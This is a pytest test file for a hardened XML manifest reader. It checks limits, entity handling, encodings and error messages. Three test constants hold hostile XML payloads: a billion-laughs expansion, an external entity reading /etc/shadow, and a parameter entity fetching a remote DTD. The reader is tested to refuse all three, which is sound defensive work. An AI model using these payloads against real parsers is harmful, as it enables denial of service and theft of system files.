"""Reading hostile XML: what is refused, and where things stand in what is accepted."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dcd.manifest.data_object import Origin
from dcd.manifest.diagnostics import Diagnostic, ManifestError
from dcd.manifest.source import LIMITS, Limits, read


def refusal(data: str | bytes, limits: Limits = LIMITS) -> Diagnostic:
    with pytest.raises(ManifestError) as caught:
        read(data, "live.xml", limits)
    (diagnostic,) = caught.value.diagnostics
    assert diagnostic.file == "live.xml"
    return diagnostic


def test_elements_and_attributes_know_where_they_begin() -> None:
    source = read('<a>\n  <b x="1"\n     yé="2"/>text</a>', "live.xml", LIMITS)
    (b,) = source.root
    assert source.origin(source.root) == Origin("live.xml", 1, 1)
    assert source.origin(b) == Origin("live.xml", 2, 3)
    assert source.origin(b, "x") == Origin("live.xml", 2, 6)
    assert source.origin(b, "yé") == Origin("live.xml", 3, 6)
    assert (b.tail, b.get("yé")) == ("text", "2")


def test_lines_are_right_in_long_files() -> None:
    source = read("<a>" + "\n" * 70_000 + "<b/></a>", "live.xml", LIMITS)
    assert source.origin(source.root[0]) == Origin("live.xml", 70_001, 1)


BILLION_LAUGHS = """<!DOCTYPE dc [
<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><dc>&c;</dc>"""
EXTERNAL_ENTITY = '<!DOCTYPE dc [<!ENTITY x SYSTEM "file:///etc/shadow">]><dc>&x;</dc>'
PARAMETER_ENTITY = '<!DOCTYPE dc [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><dc/>'


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_declarations_of_entities_are_refused_before_they_do_anything(text: str) -> None:
    assert "document type with declarations" in refusal(text).message


@pytest.mark.parametrize(
    ("text", "column"),
    [
        ("<dc>&x;</dc>", 5),
        ('<dc name="a&x;"/>', 12),
        ('<!DOCTYPE dc SYSTEM "dc.dtd"><dc>&x;</dc>', 34),
        ('<!DOCTYPE dc SYSTEM "dc.dtd"><dc name="a&x;"/>', 41),
    ],
)
def test_an_undefined_entity_is_refused_and_never_dropped(text: str, column: int) -> None:
    found = refusal(text)
    assert found.message == "the entity &x; is not defined"
    assert (found.line, found.column) == (1, column)


def test_a_document_type_that_names_a_dtd_is_accepted_and_not_fetched() -> None:
    text = '<!DOCTYPE dc SYSTEM "/usr/share/install/dc.dtd.1">\n<dc a="&lt;&#233;"/>'
    assert read(text, "live.xml", LIMITS).root.get("a") == "<é"


def test_more_than_the_limit_of_bytes_is_refused() -> None:
    fits = "<a>" + "x" * (LIMITS.max_bytes - 7) + "</a>"
    assert read(fits, "live.xml", LIMITS).root.tag == "a"
    assert refusal(fits + " ").message == "the file has 1048577 bytes; at most 1048576 are read"


def test_deep_nesting_is_refused() -> None:
    assert read("<a>" * 64 + "</a>" * 64, "live.xml", LIMITS).root.tag == "a"
    assert refusal("<a>" * 65 + "</a>" * 65).message == "elements are nested deeper than 64 levels"
    assert "nested deeper" in refusal("<a>" * 100_000).message


def test_very_many_attributes_are_refused() -> None:
    crowd = " ".join(f'a{number}=""' for number in range(50_000))
    assert refusal(f"<a {crowd}/>").message == "an element has more than 64 attributes"


def test_very_many_elements_are_refused() -> None:
    found = refusal("<a>" + "<a/>" * 50_000 + "</a>")
    assert found.message == "the manifest has more than 50000 elements"


def test_a_wrong_end_tag_names_what_it_should_close() -> None:
    found = refusal('<dc>\n  <distro name="x">\n</distor>\n</dc>')
    assert found.message == "</distor> does not close <distro>, which was opened on line 2"
    assert (found.line, found.suggestion) == (3, "</distro>")


def test_an_element_that_is_never_closed_is_named() -> None:
    found = refusal("<dc>\n  <distro>\n")
    assert (found.line, found.message) == (2, "<distro> is never closed")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "x",
        "<a/>x",
        "<a b='1' b='2'/>",
        "<x:a/>",
        "<a>\x01</a>",
        "<a>&#0;</a>",
        "<a b=1/>",
        "\ud800",
    ],
)
def test_what_is_not_well_formed_is_refused(text: str) -> None:
    assert "not well-formed" in refusal(text).message


@pytest.mark.parametrize(
    ("text", "column", "said", "suggestion"),
    [
        ("<a>x && y</a>", 7, "the character & stands alone", "write &amp;"),
        ('<a b="x & y"/>', 10, "the character & stands alone", "write &amp;"),
        ("<a>1 < 2</a>", 7, "the character < stands alone", "write &lt;"),
        ('<a b="1 < 2"/>', 9, "the character < stands alone", "write &lt;"),
        ("<a b=1/>", 6, "an attribute's value has no quotes", 'name="value"'),
        ("<a b/>", 5, "an attribute has no value", 'name="value"'),
        ("<a><!-- x --set --></a>", 13, "a comment holds --", "write it otherwise"),
        ("<a>\x01</a>", 4, "a control character", "remove it"),
    ],
)
def test_common_mistakes_are_recognised(text: str, column: int, said: str, suggestion: str) -> None:
    found = refusal(text)
    assert found.message == f"the file is not well-formed XML: {said}"
    assert (found.column, found.suggestion) == (column, suggestion)


def test_bytes_are_read_in_their_declared_encoding_only() -> None:
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><a b="é"/>'.encode("latin-1")
    assert read(latin, "live.xml", LIMITS).root.get("b") == "é"
    assert read('<a b="é"/>'.encode("utf-16"), "live.xml", LIMITS).root.get("b") == "é"
    assert "not text in utf-8" in refusal(b"<a>\n\xff</a>").message
    assert refusal(b"<a>\n\xff</a>").line == 2
    assert "'rot13' is not read" in refusal(b'<?xml version="1.0" encoding="rot13"?><a/>').message


@given(st.text() | st.text(alphabet="<>/ab=\"'&;![]?- \n").map(lambda text: f"<a>{text}</a>"))
def test_any_text_is_read_or_refused_and_nothing_else(text: str) -> None:
    try:
        read(text, "live.xml", LIMITS)
    except ManifestError as refused:
        assert refused.diagnostics
